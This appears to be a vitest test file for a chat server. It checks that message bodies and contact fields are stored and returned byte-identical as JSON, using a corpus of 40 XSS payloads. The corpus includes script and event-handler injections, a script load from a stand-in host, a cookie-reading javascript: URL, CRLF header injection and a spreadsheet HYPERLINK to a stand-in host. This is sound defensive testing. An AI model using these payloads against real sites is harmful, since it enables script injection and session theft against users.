/**
 * Message bodies are data, never markup: whatever a visitor or an agent sends is stored and served
 * back byte for byte, as JSON, by every read path (widget and admin). Rendering them as text is
 * the widget's and console's job (their own tests); here the server must not alter or "clean" them.
 */
import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { App } from '../../../server-stub/storage/apps.ts';
import { BASE, startTestServer, type TestServer } from '../../support/server-app.ts';
import { operator, widget } from '../http/helpers.ts';

/** 40 payloads: script, event-handler, URL, template, encoding and text-direction tricks. */
const XSS_CORPUS: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<body onload=alert(1)>',
  '<a href="javascript:alert(1)">click</a>',
  'javascript:alert(document.cookie)',
  'JaVaScRiPt:alert(1)',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '</textarea><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  '<base href="javascript:alert(1)//">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<template><script>alert(1)</script></template>',
  '{{constructor.constructor(\'alert(1)\')()}}',
  '${alert(1)}',
  '[click](javascript:alert(1))',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '%3Cscript%3Ealert(1)%3C%2Fscript%3E',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '\u202Egnp.exe <script>alert(1)</script>',
  'zero\u200Bwidth\uFEFF <img\u00A0src=x onerror=alert(1)>',
  'line one\r\nSet-Cookie: session=stolen\r\n\r\n<script>alert(1)</script>',
  '  padded with spaces and a tab\t  ',
  '=HYPERLINK("http://evil.example","click") 🐍 ünïcødé 中文',
];

let t: TestServer;
let app: App;
beforeAll(async () => {
  t = await startTestServer();
  app = await t.createApp();
});
afterAll(async () => t.close());

describe('message bodies are stored and served exactly as sent', () => {
  it('the corpus has at least 30 distinct payloads', () => {
    expect(new Set(XSS_CORPUS).size).toBe(XSS_CORPUS.length);
    expect(XSS_CORPUS.length).toBeGreaterThanOrEqual(30);
  });

  it('visitor starts, visitor messages and agent replies come back byte-identical from every read path, always as JSON', async () => {
    const w = widget(t, app);
    const op = operator(t, app);
    const sent: { id: string; body: string; conversation: string }[] = [];
    for (const payload of XSS_CORPUS) {
      const started = await w.start(payload);
      expect(started.status, payload).toBe(201);
      expect(started.body.message.body).toBe(payload);
      const conv = started.body.conversation.id as string;
      sent.push({ id: started.body.message.id, body: payload, conversation: conv });
      const followUp = `${payload} (again)`;
      const m = await w.send(conv, followUp);
      expect(m.body.body).toBe(followUp);
      sent.push({ id: m.body.id, body: followUp, conversation: conv });
      const reply = await op.reply(conv, `agent: ${payload}`);
      expect(reply.status).toBe(201);
      expect(reply.body.body).toBe(`agent: ${payload}`);
      sent.push({ id: reply.body.id, body: `agent: ${payload}`, conversation: conv });
    }

    const byConversation = new Map<string, typeof sent>();
    for (const s of sent) byConversation.set(s.conversation, [...(byConversation.get(s.conversation) ?? []), s]);
    for (const [conv, expected] of byConversation) {
      for (const path of [`/v1/messenger/conversations/${conv}/messages?app_id=${app.id}&visitor_id=${w.visitorId}`, `/v1/conversations/${conv}/messages`]) {
        const res = await t.fetch(new Request(`${BASE}${path}`, { headers: path.startsWith('/v1/conversations') ? { authorization: `Bearer ${app.admin_token}` } : {} }));
        expect(res.status).toBe(200);
        expect(res.headers.get('content-type')).toMatch(/^application\/json/);
        const raw = new Uint8Array(await res.arrayBuffer());
        const data = (JSON.parse(new TextDecoder('utf-8', { fatal: true }).decode(raw)) as { data: { id: string; body: string }[] }).data;
        expect(data.map((m) => [m.id, m.body]), path).toEqual(expected.map((e) => [e.id, e.body]));
      }
    }
    // The conversation list's last message and the database row hold the same bytes.
    const list = await w.conversations();
    for (const c of list.body.data as { id: string; last_message: { body: string } }[]) {
      expect(c.last_message.body).toBe(byConversation.get(c.id)!.at(-1)!.body);
    }
    const rows = await t.parley.services.db.selectFrom('messages').select(['id', 'body']).execute();
    const stored = new Map(rows.map((r) => [r.id, r.body]));
    for (const s of sent) expect(Buffer.from(stored.get(s.id)!, 'utf8').equals(Buffer.from(s.body, 'utf8')), s.body).toBe(true);
  });

  it('a body reaches open streams unchanged', async () => {
    const w = widget(t, app);
    const conv = (await w.start('hello')).body.conversation.id as string;
    const res = await t.fetch(new Request(`${BASE}/v1/messenger/stream?app_id=${app.id}&visitor_id=${w.visitorId}`));
    expect(res.headers.get('content-type')).toContain('text/event-stream');
    const reader = res.body!.getReader();
    const payload = XSS_CORPUS.find((p) => p.includes('\r\n'))!;
    await operator(t, app).reply(conv, payload);
    let text = '';
    const decoder = new TextDecoder();
    while (!text.includes('event: message')) text += decoder.decode((await reader.read()).value, { stream: true });
    while (!/event: message\ndata: .*\n\n/.test(text)) text += decoder.decode((await reader.read()).value, { stream: true });
    await reader.cancel();
    const data = /event: message\ndata: (.*)\n/.exec(text)![1]!;
    expect(JSON.parse(data).body).toBe(payload);
  });

  it('identity and lead fields with markup are stored as sent too', async () => {
    const w = widget(t, app);
    const name = '<img src=x onerror=alert(1)>';
    const res = await w.ping({ lead: { email: `"><svg/onload=alert(1)>@example.com`, name } });
    expect(res.status).toBe(200);
    const detail = await operator(t, app).contact(res.body.contact.id);
    expect(detail.body).toMatchObject({ name, email: '"><svg/onload=alert(1)>@example.com' });
  });
});

describe('text that cannot be stored as sent is refused', () => {
  it('a JSON body spelling a lone UTF-16 surrogate (\\ud800) is a 400, on messenger and admin calls, and writes nothing', async () => {
    const w = widget(t, app);
    const conv = (await w.start('hello')).body.conversation.id as string;
    const before = await t.parley.services.db.selectFrom('messages').select('id').execute();
    for (const body of ['lone \\ud800 high', 'lone \\udfff low', 'reversed \\udc00\\ud800 pair']) {
      const raw = `{"app_id":"${app.id}","visitor_id":"${w.visitorId}","body":"${body}","client_id":"${randomUUID()}"}`;
      expect((await t.call('POST', '/v1/messenger/conversations', raw)).status, body).toBe(400);
      expect((await t.call('POST', `/v1/messenger/conversations/${conv}/messages`, raw)).status, body).toBe(400);
      expect((await t.call('POST', `/v1/conversations/${conv}/reply`, `{"body":"${body}"}`, { token: app.admin_token })).status, body).toBe(400);
    }
    expect(await t.parley.services.db.selectFrom('messages').select('id').execute()).toEqual(before);
    // A well-formed pair written as escapes is text, and is stored as the character it spells.
    const pair = await t.call('POST', `/v1/messenger/conversations/${conv}/messages`, `{"app_id":"${app.id}","visitor_id":"${w.visitorId}","body":"snake \\ud83d\\udc0d","client_id":"${randomUUID()}"}`);
    expect(pair.status).toBe(201);
    expect((await w.messages(conv)).body.data.at(-1).body).toBe('snake 🐍');
  });
});
